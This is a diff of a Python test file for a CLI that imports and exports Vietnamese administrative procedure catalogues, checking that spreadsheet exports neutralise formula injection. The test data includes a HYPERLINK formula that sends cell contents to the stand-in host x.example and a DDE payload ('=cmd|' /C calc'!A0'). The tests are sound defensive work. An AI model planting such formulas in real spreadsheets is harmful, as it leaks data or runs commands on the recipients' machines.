@@ -12,11 +12,8 @@ import zipfile
 
 import openpyxl
 import pytest
-from scope_helpers import UNITS
 
 from qms.cli import main
-from qms.store.db import open_database
-from qms.store.units import import_units
 
 INJECTION = '=HYPERLINK("http://x.example/?d="&A2,"x")'
 #: The issue's reproduction, byte for byte.
@@ -41,21 +38,12 @@ def cli(capsys, *args) -> tuple[int, str]:
     return code, out.out + out.err
 
 
-@pytest.fixture
-def province_file(tmp_path):
-    path = tmp_path / "p.duckdb"
-    db = open_database(path)
-    import_units(db, list(enumerate(UNITS, start=2)), actor="test")
-    db.close()
-    return path
-
-
-def test_the_issue_reproduction_exports_text_not_a_formula(capsys, tmp_path, province_file):
+def test_the_issue_reproduction_exports_text_not_a_formula(capsys, tmp_path, province_path):
     inj = tmp_path / "inj.csv"
     inj.write_text(INJECTION_CSV, encoding="utf-8")
-    assert cli(capsys, "--db", province_file, "import-tthc", inj)[0] == 0
+    assert cli(capsys, "--db", province_path, "import-tthc", inj)[0] == 0
     out = tmp_path / "out.xlsx"
-    assert cli(capsys, "--db", province_file, "export-tthc", out)[0] == 0
+    assert cli(capsys, "--db", province_path, "export-tthc", out)[0] == 0
     data = out.read_bytes()
     assert formulas(data) == []
     assert (INJECTION, "s") in texts(data)
@@ -63,22 +51,22 @@ def test_the_issue_reproduction_exports_text_not_a_formula(capsys, tmp_path, pro
     assert next(c for row in ws.iter_rows() for c in row if c.value == INJECTION).quotePrefix  # shown as text when edited
 
 
-def test_the_csv_export_protects_the_cell_and_re_imports_unchanged(capsys, tmp_path, province_file):
+def test_the_csv_export_protects_the_cell_and_re_imports_unchanged(capsys, tmp_path, province_path):
     inj = tmp_path / "inj.csv"
     inj.write_text(INJECTION_CSV, encoding="utf-8")
-    cli(capsys, "--db", province_file, "import-tthc", inj)
+    cli(capsys, "--db", province_path, "import-tthc", inj)
     for name in ("out.csv", "out.xlsx"):
         out = tmp_path / name
-        assert cli(capsys, "--db", province_file, "export-tthc", out)[0] == 0
+        assert cli(capsys, "--db", province_path, "export-tthc", out)[0] == 0
         if name.endswith(".csv"):
             cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
             assert "'" + INJECTION in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
-        code, said = cli(capsys, "--db", province_file, "import-tthc", out)
+        code, said = cli(capsys, "--db", province_path, "import-tthc", out)
         assert code == 0 and "0 new catalogue entries" in said and "1 unchanged" in said and "0 renamed" in said
 
 
 @pytest.mark.parametrize("title", ["=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"])
-def test_process_exports_write_title_and_legal_basis_as_text(capsys, tmp_path, province_file, title):
+def test_process_exports_write_title_and_legal_basis_as_text(capsys, tmp_path, province_path, title):
     tthc = tmp_path / "t.csv"
     tthc.write_text("Mã đơn vị,Mã TTHC,Tên TTHC\n03386,1.000001,Khai sinh\n", encoding="utf-8")
     processes = tmp_path / "p.csv"
@@ -86,13 +74,13 @@ def test_process_exports_write_title_and_legal_basis_as_text(capsys, tmp_path, p
     with processes.open("w", encoding="utf-8", newline="") as f:
         csv.writer(f).writerows([["Mã đơn vị", "Mã quy trình", "Tên quy trình", "Mã TTHC", "Ngày ban hành", "Căn cứ pháp lý"],
                                  ["03386", "QT-01", title, "1.000001", "01/03/2021", basis]])
-    assert cli(capsys, "--db", province_file, "import-tthc", tthc)[0] == 0
-    assert cli(capsys, "--db", province_file, "import-processes", processes)[0] == 0
+    assert cli(capsys, "--db", province_path, "import-tthc", tthc)[0] == 0
+    assert cli(capsys, "--db", province_path, "import-processes", processes)[0] == 0
     out = tmp_path / "qt.xlsx"
-    assert cli(capsys, "--db", province_file, "export-processes", out)[0] == 0
+    assert cli(capsys, "--db", province_path, "export-processes", out)[0] == 0
     assert formulas(out.read_bytes()) == [] and {(title, "s"), (basis, "s")} <= set(texts(out.read_bytes()))
     out_csv = tmp_path / "qt.csv"
-    assert cli(capsys, "--db", province_file, "export-processes", out_csv)[0] == 0
+    assert cli(capsys, "--db", province_path, "export-processes", out_csv)[0] == 0
     assert f"'{title}" in out_csv.read_text(encoding="utf-8-sig") and f"'{basis}" in out_csv.read_text(encoding="utf-8-sig")
 
 
